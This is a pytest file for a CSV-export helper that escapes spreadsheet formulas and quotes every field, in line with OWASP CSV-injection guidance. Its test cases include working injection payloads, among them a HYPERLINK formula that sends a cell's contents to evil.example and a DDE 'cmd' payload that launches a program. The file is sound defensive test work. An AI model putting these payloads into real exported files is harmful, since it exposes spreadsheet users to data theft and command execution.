"""CSV the app hands out opens safely in a spreadsheet (OWASP's CSV-injection guidance) and keeps every value."""

from __future__ import annotations

import csv
import io

import pytest

from llm_demo.safe_csv import csv_text, escape_formula


@pytest.mark.parametrize(
    "cell, written",
    [
        ('=HYPERLINK("http://evil.example/?"&A2,"x")', '\'=HYPERLINK("http://evil.example/?"&A2,"x")'),
        ("+1 negative", "'+1 negative"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-1,000", "'-1,000"),
        ("-inf", "'-inf"),
        ("-1", "-1"),
        ("+3.5", "+3.5"),
        ("1e-3", "1e-3"),
        ("-1e-3", "-1e-3"),
        ("-.5", "-.5"),
        ("x;=cmd|' /C calc'!A0", "x;=cmd|' /C calc'!A0"),
        ("好", "好"),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_as_a_formula_gets_a_quote_and_a_number_stays_a_number(cell, written):
    assert escape_formula(cell) == written


def test_every_field_and_the_header_are_quoted_so_no_list_separator_splits_a_cell():
    text = csv_text([["=HYPERLINK(1)", "label", 'say "hi"'], ["x;=cmd|' /C calc'!A0", "-1", 0.9, "", None]])
    assert text.splitlines() == ['"\'=HYPERLINK(1)","label","say ""hi"""', '"x;=cmd|\' /C calc\'!A0","-1","0.9",,']
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=HYPERLINK(1)", "label", 'say "hi"'],
        ["x;=cmd|' /C calc'!A0", "-1", "0.9", "", ""],
    ]
    # Where Excel's list separator is ";", an unquoted cell would split into "x" and a formula "=cmd|...": quoted, none
    unquoted = io.StringIO()
    csv.writer(unquoted).writerow(["x;=cmd|' /C calc'!A0"])
    assert "=cmd|' /C calc'!A0" in next(csv.reader(io.StringIO(unquoted.getvalue()), delimiter=";"))
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row)
